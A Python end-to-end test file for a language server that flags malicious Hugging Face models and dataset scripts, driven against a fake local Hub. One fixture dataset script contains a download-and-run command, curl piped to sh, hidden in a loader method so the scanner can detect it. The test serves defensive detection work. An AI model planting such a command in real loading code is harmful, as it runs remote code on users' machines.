"""End to end: a real LSP client drives ``malhug lsp`` against the fake Hub on 127.0.0.1."""

from __future__ import annotations

from pathlib import Path

import pytest
from lsprotocol import types

from tests.server.conftest import HubRepos
from tests.server.harness import (
    change_doc,
    codes,
    literal_range,
    logged,
    open_doc,
    server_env,
    start_client,
    stop_client,
    wait_for,
)

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(90)]

EVIL = 'from transformers import AutoModel\n\nmodel = AutoModel.from_pretrained("org/evil")\n'


def _with(client, uri: str, code: str):  # type: ignore[no-untyped-def]
    return [d for d in client.diagnostics.get(uri, []) if d.code == code]


async def test_poisoned_repo_error_hover_and_pin_fix(tmp_path: Path, hub: HubRepos) -> None:
    client = await start_client(tmp_path, env=server_env(tmp_path, HF_ENDPOINT=hub.hub.endpoint))
    try:
        uri = open_doc(client, tmp_path / "ws" / "app.py", EVIL)
        diags = await wait_for(lambda: _with(client, uri, "MH710"), what="MH710 on org/evil")
        diag = diags[0]
        assert diag.range == literal_range(EVIL, '"org/evil"')
        assert diag.severity == types.DiagnosticSeverity.Error
        assert diag.source == "malhug"
        assert diag.code_description is not None and diag.code_description.href.endswith("#mh710")
        assert "malicious" in diag.message and "pytorch_model.bin" in diag.message
        assert "command-exec" in diag.message
        assert diag.data["repo_id"] == "org/evil" and diag.data["scanned_sha"] == hub.evil_head
        # Diagnostics are stamped with the version they were computed for.
        assert client.for_uri(uri)[-1].version == 1

        hover = await client.text_document_hover_async(
            types.HoverParams(
                text_document=types.TextDocumentIdentifier(uri=uri),
                position=types.Position(line=2, character=40),
            )
        )
        assert hover is not None
        text = hover.contents.value  # type: ignore[union-attr]
        assert "is malicious" in text and hub.evil_head in text
        assert "pytorch_model.bin" in text and "command-exec" in text
        assert "os.system" in text and "malhug-sentinel-lsp" in text
        assert "Hugging Face's own scan: flags `pytorch_model.bin`" in text

        actions = await client.text_document_code_action_async(
            types.CodeActionParams(
                text_document=types.TextDocumentIdentifier(uri=uri),
                range=diag.range,
                context=types.CodeActionContext(diagnostics=[diag]),
            )
        )
        pins = [a for a in actions or [] if isinstance(a, types.CodeAction) and "Pin revision" in a.title]
        assert pins, [a.title for a in actions or []]
        assert pins[0].kind == types.CodeActionKind.QuickFix
        (edit,) = pins[0].edit.changes[uri]  # type: ignore[union-attr,index]
        assert edit.new_text == f', revision="{hub.evil_clean_sha}"'
        assert edit.range.start == types.Position(line=2, character=len('model = AutoModel.from_pretrained("org/evil"'))
        assert edit.range.start == edit.range.end
    finally:
        await stop_client(client)


async def test_clean_repo_gets_nothing_and_risky_load_gets_weights_only_fix(tmp_path: Path, hub: HubRepos) -> None:
    client = await start_client(tmp_path, env=server_env(tmp_path, HF_ENDPOINT=hub.hub.endpoint))
    try:
        text = (
            "import torch\nfrom transformers import AutoModel\n"
            'm = AutoModel.from_pretrained("org/clean")\n'
            'sd = torch.load("w.pt")\n'
        )
        uri = open_doc(client, tmp_path / "ws" / "clean.py", text)
        await wait_for(lambda: logged(client, "org/clean: clean"), what="the scan of org/clean")
        await wait_for(lambda: client.for_uri(uri), what="diagnostics")
        diags = client.diagnostics[uri]
        assert codes(diags) == ["MH701"]  # nothing for the clean repo
        (load,) = diags
        assert load.severity == types.DiagnosticSeverity.Information
        assert load.range == literal_range(text, "torch.load")
        actions = await client.text_document_code_action_async(
            types.CodeActionParams(
                text_document=types.TextDocumentIdentifier(uri=uri),
                range=load.range,
                context=types.CodeActionContext(diagnostics=[load]),
            )
        )
        titles = {a.title: a for a in actions or [] if isinstance(a, types.CodeAction)}
        fix = titles["MalHug: Use weights_only=True"]
        (edit,) = fix.edit.changes[uri]  # type: ignore[union-attr,index]
        assert edit.new_text == ", weights_only=True"
        assert edit.range.start == types.Position(line=3, character=len('sd = torch.load("w.pt"'))
        ignore = titles["MalHug: Ignore MH701 on this line"]
        (edit,) = ignore.edit.changes[uri]  # type: ignore[union-attr,index]
        assert edit.new_text == "  # malhug: ignore[MH701]"
    finally:
        await stop_client(client)


async def test_edits_drop_stale_results_and_cancel_unreferenced_scans(tmp_path: Path, hub: HubRepos) -> None:
    hub.hub.slow_down(3.0, match="org/evil")
    # A long debounce, so the burst of edits below is surely coalesced even on a loaded machine.
    client = await start_client(
        tmp_path, env=server_env(tmp_path, HF_ENDPOINT=hub.hub.endpoint), init_options={"debounceMs": 600}
    )
    try:
        uri = open_doc(client, tmp_path / "ws" / "edit.py", EVIL)
        await wait_for(lambda: client.for_uri(uri), what="first publish")
        replaced = EVIL.replace("org/evil", "org/clean")
        for version in range(2, 7):  # typing: several quick edits, debounced into one analysis
            change_doc(
                client, uri, replaced if version == 6 else EVIL.replace("org/evil", "org/ev" + "i" * version), version
            )
        await wait_for(lambda: logged(client, "cancelling the scan of org/evil"), what="the evil scan cancelled")
        await wait_for(lambda: logged(client, "org/clean: clean"), what="org/clean scanned")
        await wait_for(lambda: any(p.version == 6 for p in client.for_uri(uri)), what="a publish for version 6")
        versions = [p.version for p in client.for_uri(uri)]
        assert versions == sorted(versions), versions  # never an older version after a newer one
        assert 3 not in versions and 4 not in versions  # debounced edits were never analyzed
        hub.hub.slow_down(0)
        await client.workspace_execute_command_async(types.ExecuteCommandParams(command="malhug.clearCache"))
        for p in client.for_uri(uri):
            assert "MH710" not in codes(p.diagnostics)  # the evil result never reached the new text
    finally:
        await stop_client(client)


async def test_offline_mode_without_cache_warns(tmp_path: Path, hub: HubRepos) -> None:
    env = server_env(tmp_path, HF_ENDPOINT=hub.hub.endpoint, HF_HUB_OFFLINE="1")
    client = await start_client(tmp_path, env=env)
    try:
        uri = open_doc(client, tmp_path / "ws" / "off.py", EVIL)
        diags = await wait_for(lambda: _with(client, uri, "MH712"), what="MH712 offline")
        assert diags[0].severity == types.DiagnosticSeverity.Warning
        assert "offline" in diags[0].message
        assert diags[0].range == literal_range(EVIL, '"org/evil"')
        assert hub.hub.requests() == []  # offline means no network at all
    finally:
        await stop_client(client)


async def test_hub_error_becomes_a_warning_and_server_survives(tmp_path: Path, hub: HubRepos) -> None:
    hub.hub.fail_next(1000, status=500, match="/api/")
    secret = "hf_malhugTestSecretToken0123456789"
    client = await start_client(
        tmp_path,
        env=server_env(tmp_path, HF_ENDPOINT=hub.hub.endpoint, HF_TOKEN=secret),
        init_options={"historyDepth": 2, "logLevel": "debug"},
    )
    try:
        uri = open_doc(client, tmp_path / "ws" / "err.py", EVIL)
        diags = await wait_for(lambda: _with(client, uri, "MH712"), timeout=60, what="MH712 on a hub error")
        assert diags[0].severity == types.DiagnosticSeverity.Warning
        assert diags[0].data["repo_id"] == "org/evil"
        hover = await client.text_document_hover_async(
            types.HoverParams(
                text_document=types.TextDocumentIdentifier(uri=uri), position=types.Position(line=2, character=38)
            )
        )
        assert hover is not None and "could not scan" in hover.contents.value.lower()  # type: ignore[union-attr]
        assert any(r.authorization for r in hub.hub.requests())  # the token was used...
        assert client.log_messages and not any(secret in m.message for m in client.log_messages)  # ...never logged
        assert secret not in diags[0].message

        # The hub recovers; saving the document retries the failed scan.
        hub.hub.reset_faults()
        client.text_document_did_save(
            types.DidSaveTextDocumentParams(text_document=types.TextDocumentIdentifier(uri=uri))
        )
        await wait_for(lambda: _with(client, uri, "MH710"), what="MH710 after the retry")
        assert not _with(client, uri, "MH712")
    finally:
        await stop_client(client)


async def test_bad_settings_are_reported_and_defaults_used(tmp_path: Path, hub: HubRepos) -> None:
    client = await start_client(
        tmp_path,
        env=server_env(tmp_path, HF_ENDPOINT=hub.hub.endpoint),
        init_options={"severityThreshold": "loud", "historyDepth": -3, "trustedRepos": "org/*"},
        configuration={"offline": "maybe"},
    )
    try:
        await wait_for(lambda: len(client.messages) >= 4, what="showMessage for each bad value")
        text = "\n".join(m.message for m in client.messages)
        assert "malhug.severityThreshold" in text and "'loud'" in text
        assert "malhug.historyDepth" in text and "malhug.trustedRepos" in text and "malhug.offline" in text
        uri = open_doc(client, tmp_path / "ws" / "s.py", EVIL)  # still works, with the defaults
        await wait_for(lambda: _with(client, uri, "MH710"), what="MH710 with default settings")
    finally:
        await stop_client(client)


async def test_dataset_with_a_malicious_loading_script(tmp_path: Path, hub: HubRepos) -> None:
    script = (
        "import os\nimport datasets\n\n\nclass Squad(datasets.GeneratorBasedBuilder):\n"
        "    def _info(self):\n        os.system('curl http://127.0.0.1:9/x.sh | sh')\n"
        "        return datasets.DatasetInfo()\n"
    )
    hub.hub.repo("org/squad-x", "dataset").commit({"squad-x.py": script, "README.md": "# squad"})
    client = await start_client(tmp_path, env=server_env(tmp_path, HF_ENDPOINT=hub.hub.endpoint))
    try:
        text = 'from datasets import load_dataset\n\nds = load_dataset("org/squad-x", trust_remote_code=True)\n'
        uri = open_doc(client, tmp_path / "ws" / "data.py", text)
        (diag,) = await wait_for(lambda: _with(client, uri, "MH710"), what="MH710 on the dataset id")
        assert diag.range == literal_range(text, '"org/squad-x"')
        assert diag.data["repo_type"] == "dataset"
        assert "squad-x.py" in diag.message and "download-exec" in diag.message
        assert _with(client, uri, "MH706")  # trust_remote_code=True is reported on its own too
    finally:
        await stop_client(client)
